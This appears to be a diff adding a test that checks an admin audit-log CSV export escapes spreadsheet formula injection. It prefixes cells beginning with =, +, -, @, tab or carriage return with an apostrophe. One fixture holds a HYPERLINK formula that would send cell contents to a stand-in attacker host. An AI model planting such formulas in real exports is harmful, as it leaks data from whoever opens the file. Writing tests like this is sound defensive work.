@@ -175,3 +175,65 @@ describe("the admin page's audit download", () => {
     expect((await get("/admin/audit-log/export?format=csv&since=someday", cookie)).status).toBe(400);
   });
 });
+
+describe("formulas in the audit CSV", () => {
+  test("text cells that a spreadsheet would run are prefixed with '; numbers stay numbers", async () => {
+    const t = makeTestApp();
+    const { tokenId } = t.fixtures.world({ purpose: "mcp" });
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"открыть")';
+    const starts = [formula, "+7 495", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"];
+    for (const [i, text] of starts.entries()) {
+      t.services.audit.write({
+        at: new Date(t.clock.now().getTime() - 1000 + i),
+        actor: "token",
+        apiTokenId: tokenId,
+        action: "mcp.search_operations",
+        tool: "search_operations",
+        target: text,
+        arguments: { query: text },
+        outcome: "ok",
+        durationMs: 5,
+        requestId: `r-${i}`,
+        transport: "http",
+      });
+    }
+    // A refused sign-in without a token lands in the log with the caller's request id.
+    const signIn = await t.app.handle(
+      new Request(`${BASE}/admin/login`, {
+        method: "POST",
+        headers: {
+          "content-type": "application/x-www-form-urlencoded",
+          origin: BASE,
+          "x-request-id": "-2.5",
+        },
+        body: new URLSearchParams({ token: "wrong" }).toString(),
+      }),
+    );
+    expect(signIn.status).toBe(401);
+
+    const login = await t.app.handle(
+      new Request(`${BASE}/admin/login`, {
+        method: "POST",
+        headers: { "content-type": "application/x-www-form-urlencoded", origin: BASE },
+        body: new URLSearchParams({ token: ADMIN_TOKEN }).toString(),
+      }),
+    );
+    const cookie = login.headers.get("set-cookie")?.split(";")[0] ?? "";
+    const csv = await t.app.handle(
+      new Request(`${BASE}/admin/audit-log/export?format=csv`, { headers: { cookie } }),
+    );
+    expect(csv.status).toBe(200);
+    const records = parse(await csv.text(), { columns: true }) as Record<string, string>[];
+    const searches = records.filter((r) => r.action === "mcp.search_operations");
+    expect(searches.map((r) => r.target)).toEqual(starts.map((s) => `'${s}`));
+    for (const r of searches) {
+      expect(r.tool).toBe("search_operations");
+      // JSON text begins with {: nothing to neutralise, and it stays valid JSON.
+      expect(r.arguments?.startsWith("{")).toBe(true);
+      expect(r.duration_ms).toBe("5");
+      expect(Number.isInteger(Number(r.id))).toBe(true);
+    }
+    const refused = records.find((r) => r.action === "admin.ui.sign_in");
+    expect(refused?.request_id).toBe("'-2.5");
+  });
+});
